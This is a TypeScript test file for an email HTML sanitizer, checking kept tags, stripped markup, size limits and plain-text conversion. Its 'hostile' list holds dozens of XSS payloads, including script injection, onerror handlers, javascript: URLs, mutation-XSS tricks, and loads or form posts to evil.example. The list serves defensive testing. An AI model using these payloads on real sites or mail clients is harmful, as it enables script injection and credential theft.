// Sanitized HTML contains no scripts, loads nothing and cannot affect anything
// outside the mail. parse5, which parses like a browser, checks every result and its serialization.
import fc from 'fast-check'
import { type DefaultTreeAdapterTypes, parse, parseFragment, serialize } from 'parse5'
import { describe, expect, it } from 'vitest'
import { clean, withPictures } from '../../../src/kernel/values/html.ts'
import { plainText } from '../../../src/kernel/values/plain-text.ts'

type Node = DefaultTreeAdapterTypes.ChildNode | DefaultTreeAdapterTypes.DocumentFragment

const kept =
  'a abbr address b bdi bdo blockquote br caption center cite code col colgroup dd del dfn div dl dt em figcaption figure font h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s samp small span strike strong sub sup table tbody td tfoot th thead tr tt u ul var wbr'.split(
    ' ',
  )
const attributes =
  'style title dir lang align href rel target color face size src data-remote alt width height start type border cellpadding cellspacing bgcolor colspan rowspan valign span'.split(
    ' ',
  )

/** Returns descriptions of the forbidden parts of the HTML. */
function breaches(html: string): string[] {
  const found: string[] = []
  const look = (node: Node): void => {
    if ('tagName' in node) {
      if (!kept.includes(node.tagName)) found.push(`<${node.tagName}>`)
      if (node.namespaceURI !== 'http://www.w3.org/1999/xhtml') found.push(`${node.tagName} in ${node.namespaceURI}`)
      for (const { name, value } of node.attrs) {
        if (!attributes.includes(name)) found.push(`${node.tagName} ${name}`)
        if (name === 'href' && !/^(https?:\/\/|mailto:|tel:)/.test(value.toLowerCase())) found.push(`href ${value}`)
        if (name === 'src' && !/^(cid:|data:image\/(png|jpeg|gif|webp);base64,)/i.test(value))
          found.push(`src ${value}`)
        if (name === 'data-remote' && !/^https?:\/\//i.test(value)) found.push(`data-remote ${value}`)
        if (name === 'style' && /url|expression|import|behavior|binding|position|\\|@|\/|javascript/i.test(value))
          found.push(`style ${value}`)
      }
    } else if (node.nodeName === '#comment') found.push('a comment')
    if ('childNodes' in node) for (const child of node.childNodes) look(child)
  }
  look(parseFragment(html))
  return found
}

/**
 * Returns the sanitized HTML after checking it, its serialization, and that sanitizing it again
 * does not change it.
 */
function cleaned(html: string): string {
  const kept = clean(html)
  if (kept === null) throw new Error('It was too much.')
  expect(breaches(kept)).toEqual([])
  expect(breaches(serialize(parseFragment(kept)))).toEqual([])
  expect(clean(kept)).toBe(kept)
  return kept
}

describe('a body keeps', () => {
  it.each([
    ['<p>Hello <b>you</b></p>', '<p>Hello <b>you</b></p>'],
    ['plain & simple <3', 'plain &amp; simple &lt;3'],
    ['<html><head><title>x</title></head><body bgcolor="red"><p>In</p></body></html>', '<p>In</p>'],
    [
      '<table width="100%"><tr><td colspan="2">1</td></tr></table>',
      '<table width="100%"><tr><td colspan="2">1</td></tr></table>',
    ],
    ['<p style="color: #f00; margin: 0 auto; position: fixed">x</p>', '<p style="color:#f00;margin:0 auto">x</p>'],
    [`<p style="font-family: 'Segoe UI', Arial">x</p>`, `<p style="font-family:'Segoe UI', Arial">x</p>`],
    ['<p style="background-color: rgb(1, 2, 3)">x</p>', '<p style="background-color:rgb(1, 2, 3)">x</p>'],
    [`<p style="${'color:red;'.repeat(500)}">no style is that long</p>`, '<p>no style is that long</p>'],
    ['<p style="color:red;@x{}">no rules</p>', '<p>no rules</p>'],
    ['<custom-tag><i>in</i></custom-tag>', '<i>in</i>'],
    ['<p>1<custom-tag><p>2</p>3', '<p>1</p><p>2</p>3<p></p>'],
    ['<table><p>1<s<script>2</script><p>3</p>', '<table><p>12</p><p>3</p><p></p></table>'],
    [
      '<a href="https://example.com/?a=1&amp;b=2" onclick="x()">site</a>',
      '<a href="https://example.com/?a=1&amp;b=2" rel="noopener noreferrer" target="_blank">site</a>',
    ],
    ['<a href="mailto:a@b.co">mail</a>', '<a href="mailto:a@b.co" rel="noopener noreferrer" target="_blank">mail</a>'],
    ['<img src="cid:logo@here" alt="Logo" width="20">', '<img src="cid:logo@here" alt="Logo" width="20" />'],
    ['<img src="data:image/png;base64,AAAA">', '<img src="data:image/png;base64,AAAA" />'],
    ['<img src="https://t.example/x.png?a&b" srcset="y 2x">', '<img data-remote="https://t.example/x.png?a&amp;b" />'],
    ['<img src="//t.example/x.png">', '<img data-remote="https://t.example/x.png" />'],
  ])('%s', (html, wanted) => {
    expect(cleaned(html)).toBe(wanted)
  })
})

describe('a body loses', () => {
  const hostile = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img/src=`x`/onerror=alert(1)>',
    '<img """><script>alert(1)</script>">',
    '<img src="javascript:alert(1)"><img src="jav&#x09;ascript:alert(1)"><img src=" &#14; javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4="><img src="data:text/html,x"><img src="/api/admin/leads">',
    '<a href="javascript:alert(1)">x</a><a href="JaVaScRiPt:alert(1)">x</a><a href="java&#10;script:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a><a href="vbscript:x">x</a><a href="/api/admin/logout">x</a><a href="#x">x</a>',
    '<a href="https://example.com" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">x</a>',
    '<p style="background:url(https://t.example/x)">x</p><p style="background-color:url(//t.example)">x</p>',
    '<p style="color:red;background-image:\\75 rl(x)">x</p><p style="width:expression(alert(1))">x</p>',
    '<p style="color: red/**/;behavior:url(x)">x</p><p style="-moz-binding:url(x)">x</p><p style="margin-left:-9999px">x</p>',
    `<p style="font-family:'x;color:red">x</p><p style="font-family:a\\27 ;x">x</p><p style="color:red}body{display:none">x</p>`,
    '<style>@import url(//evil.example)</style><link rel=stylesheet href=//evil.example><base href=//evil.example>',
    '<meta http-equiv=refresh content="0;url=//evil.example"><body onload=alert(1)><frameset onload=x><frame src=x>',
    '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>"><embed src=x><object data=x>y</object>',
    '<form action=//evil.example><input name=password><button formaction=javascript:x>go</button><textarea>t</textarea></form>',
    '<svg><script>alert(1)</script></svg><svg onload=alert(1)><svg><a xlink:href="javascript:x"><text>x</text></a></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg><svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math><math href="javascript:x">x</math>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp><plaintext><img src=x onerror=alert(1)>',
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed><noframes><p id="</noframes><img src onerror=x>">',
    '<title><img title="</title><img src=x onerror=alert(1)>"></title><select><style></select><img src onerror=x></style></select>',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea><option><style></option><img src onerror=x></style>',
    '<template><script>alert(1)</script></template><details ontoggle=alert(1) open>x</details><video><source onerror=x></video>',
    '<!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)> --><![CDATA[<img src=x onerror=alert(1)>]]>',
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y "z">]><p>x</p><%img src=x onerror=x%>',
    '&lt;script&gt;alert(1)&lt;/script&gt;&amp;lt;img src=x onerror=x&amp;gt;',
    '<p/onclick=alert(1)>x</p><p\tonclick\n=\nalert(1)>x<p onclick="a"onfocus="b" autofocus tabindex=0>',
    '<p id="x" name="y" class="z" data-x="1" is="w" contenteditable accesskey=x slot=s part=p>x</p>',
    '<font color="red" onmouseover=x>x</font><table background="//t.example/x"><td background=x>x</td></table>',
    '<div><div><div></span></b></i></table></div><td><tr><table><p><table><a><a><b><p></b>',
    '<p title="&quot;><img src=x onerror=alert(1)>">x</p><p title=\'"><script>x</script>\'>x</p><p title="`">x</p>',
    '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt><img\u0000src=x\u000bonerror=x><a href="\u0001javascript:x">y</a>',
    '<b <script>alert(1)</script>x</b><<script>alert(1)//<</script><img src=x:alert(1) onerror=eval(src)',
    '<p style="color:red;}">x</p><p style="color:red;a{">x</p><p style="color:red;\\62:url(x)">x</p>',
    '<isindex type=image src=1 onerror=x><keygen autofocus onfocus=x><marquee onstart=x>x</marquee><bgsound src=x>',
  ]

  it.each(hostile)('%s', (html) => {
    cleaned(html)
  })

  it('nothing more when hostile parts are put into each other', () => {
    const part = fc.constantFrom(...hostile, ...kept.map((tag) => `<${tag}>`), ...kept.map((tag) => `</${tag}>`))
    const cut = fc.tuple(part, fc.nat(), fc.nat()).map(([text, from, to]) => {
      const [start, end] = [from % (text.length + 1), to % (text.length + 1)]
      return text.slice(Math.min(start, end), Math.max(start, end))
    })
    const soup = fc.array(fc.oneof(part, cut, fc.string({ unit: 'binary', maxLength: 5 })), { maxLength: 12 })
    fc.assert(
      fc.property(soup, (parts) => void cleaned(parts.join(''))),
      { numRuns: 200 },
    )
  })

  it('nothing that would become markup in another place of a page', () => {
    for (const html of hostile) {
      const page = `<!doctype html><html><body><div title="a">${cleaned(html)}</div></body></html>`
      expect(serialize(parse(page))).not.toMatch(/<(script|style|svg|math|iframe|form)\b/i)
    }
  })
})

describe('a body of a megabyte', () => {
  const mib = 1_000_000

  it('is refused for too many elements, too many levels, or when it grows beyond itself', () => {
    expect(clean('<b>'.repeat(250))).not.toBeNull()
    expect(clean('<b>'.repeat(251))).toBeNull()
    expect(clean('<p>x</p>'.repeat(50_000))).not.toBeNull()
    expect(clean('<p>x</p>'.repeat(50_001))).toBeNull()
    expect(clean('&'.repeat(mib / 2))).toBeNull()
  })

  it('is refused for what takes long to clean: attributes, addresses, texts in very many pieces', () => {
    const many = (count: number, part: string): string => part.repeat(count)
    expect(clean(many(10_000, '<a href="https://example.com">x</a>'))).not.toBeNull()
    expect(clean(many(10_001, '<a href="https://example.com">x</a>'))).toBeNull()
    expect(clean(many(10_001, '<img src="cid:x">'))).toBeNull()
    expect(clean(many(12_500, '<p lang=a dir=a title=a align=a>'))).not.toBeNull()
    expect(clean(many(12_501, '<p lang=a dir=a title=a align=a>'))).toBeNull()
    expect(clean(`<p ${Array.from({ length: 50_001 }, (_, n) => `a${n}`).join(' ')}>`)).toBeNull()
    expect(clean(many(50_000, '&nbsp;'))).not.toBeNull()
    expect(clean(many(100_001, '&nbsp;'))).toBeNull()
  })

  it('is refused for too many styles, or too much of them', () => {
    const styled = (count: number, style: string): string => `<p style="${style}">x</p>`.repeat(count)
    expect(clean(styled(10_000, 'color:red'))).toBe(styled(10_000, 'color:red'))
    expect(clean(styled(10_001, 'color:red'))).toBeNull()
    expect(clean(styled(76, `${' '.repeat(3990)}color:red`))).toBeNull()
    // Dropped parts do not count toward the limit.
    expect(clean('<body style="color:red"></body>'.repeat(10_001))).toBe('')
  })
})

describe('a body as plain text', () => {
  it.each([
    ['<p>Hello   <b>you</b>,</p><p>second</p>', 'Hello you,\n\nsecond'],
    ['one<br>two<div>three</div>four', 'one\ntwo\nthree\nfour'],
    ['<ul><li>a</li><li>b</li></ul>after', '- a\n- b\n\nafter'],
    ['<table><tr><td>1</td><td>2</td></tr><tr><td>3</td></tr></table>', '1 2\n3'],
    ['<pre>a\n  b</pre>', 'a\nb'],
    ['5 &lt; 6 &amp;&amp; 7 &gt; 2 &euro; &nbsp; &quot;q&quot;', '5 < 6 && 7 > 2 € "q"'],
    ['&amp;lt;not a tag&amp;gt;', '&lt;not a tag&gt;'],
    ['<p title="a > b">x</p>', 'x'],
    ['<script>no</script><style>no</style>', ''],
    [
      'Please <a href="https://pay.example.com/a?b=1&amp;c=2">pay <b>here</b></a>.',
      'Please pay here (https://pay.example.com/a?b=1&c=2).',
    ],
    [
      '<a href="https://example.com/">https://example.com</a> <a href="mailto:a@x.org">a@x.org</a>',
      'https://example.com a@x.org',
    ],
    ['<a href="mailto:a@x.org">Write</a> or <a href="tel:+49301">call</a>', 'Write (a@x.org) or call (+49301)'],
    [
      '<img src="https://example.com/l.png" alt="Our logo"><p>Hello</p><img src="https://example.com/p.png">',
      'Our logo\n\nHello',
    ],
    ['<ol><li>a</li><li>b<ul><li>c</li></ul></li><li>d</li></ol>', '1. a\n2. b\n\n- c\n\n3. d'],
    ['<ol start="3"><li>a</li></ol>', '3. a'],
    [
      '<p>Yes.</p><blockquote><p>One?</p><p>Two?</p><blockquote>Old</blockquote></blockquote>End',
      'Yes.\n\n> One?\n>\n> Two?\n>\n> > Old\n\nEnd',
    ],
  ])('%s', (html, wanted) => {
    expect(plainText(cleaned(html))).toBe(wanted)
  })

  it('says exactly the words that a browser shows, and no markup', () => {
    const words = (node: Node): string =>
      'value' in node ? node.value : 'childNodes' in node ? node.childNodes.map(words).join(' ') : ''
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom('<p>', '</p>', '<b>', 'x', 'y ', '&lt;b&gt;', '<br>', '<td>', '<li>')),
        (parts) => {
          const kept = cleaned(parts.join(''))
          const letters = (text: string): string => text.replaceAll(/[\s-]/g, '')
          expect(letters(plainText(kept))).toBe(letters(words(parseFragment(kept))))
        },
      ),
    )
  })
})

describe('a picture of the mail itself', () => {
  const url = 'https://crm.example.com/api/admin/files/4/content?expires=1&signature=ab'

  it('is shown by its link, and comes back under its name', () => {
    const stored = cleaned('<p>See <img src="cid:a&b@x" alt="A"> and <img src="cid:gone"> src="cid:a&amp;b@x"</p>')
    const shown = withPictures(stored, (contentId) => (contentId === 'a&b@x' ? url : undefined))
    expect(shown).toContain(`<img src="${url.replaceAll('&', '&amp;')}" alt="A" />`)
    expect(shown).toContain('<img src="cid:gone" />')
    expect(shown).toContain('src="cid:a&amp;b@x"</p>')
    expect(clean(shown, (src) => (src === url ? 'a&b@x' : undefined))).toBe(stored)
  })

  it('is one from elsewhere when its link is not known', () => {
    expect(cleaned(`<img src="${url}">`)).toMatch(/^<img data-remote="https:\/\/crm/)
  })
})
